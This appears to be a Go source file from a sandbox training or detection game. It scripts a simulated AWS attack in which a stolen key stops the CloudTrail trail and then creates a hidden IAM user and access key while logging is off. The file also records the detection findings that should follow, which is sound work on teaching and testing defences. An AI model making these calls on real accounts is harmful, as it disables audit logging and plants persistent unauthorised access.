package sandbox

// playCloudTrailStopped: the attacker stops the organisation trail, then
// acts while the trail is blind (CloudTrail's event history still has it).
func playCloudTrailStopped(p *player) error {
	c := p.c
	_, err := c.json("cloudtrail", "com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.DescribeTrails", "1.1", map[string]any{})
	p.step("Discovery", "cloudtrail:DescribeTrails", err)
	_, err = c.json("cloudtrail", "com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.StopLogging", "1.1", map[string]any{"Name": gameTrail})
	if err := p.step("DefenseEvasion", "cloudtrail:StopLogging "+gameTrail, err); err != nil {
		return err
	}
	p.metric(gameRegion, "CloudTrailMetrics", "CloudTrailEventCount", 1)
	p.finding(FindingSpec{Type: "Stealth:IAMUser/CloudTrailLoggingDisabled", UserName: "etl-batch", AccessKeyID: stolenKey, API: "StopLogging"})
	p.control("CloudTrail.1", "CloudTrail should be enabled and configured with at least one multi-Region trail", "AwsAccount", "AWS::::Account:"+gameAccount, "HIGH")
	// Unseen by the trail from here on.
	_, err = c.in("us-east-1").query("iam", "2010-05-08", "CreateUser", map[string]string{"UserName": "ops-automation"})
	p.step("Persistence", "iam:CreateUser ops-automation (not delivered: the trail is stopped)", err)
	_, err = c.in("us-east-1").query("iam", "2010-05-08", "CreateAccessKey", map[string]string{"UserName": "ops-automation"})
	p.step("Persistence", "iam:CreateAccessKey for ops-automation (not delivered)", err)
	return nil
}
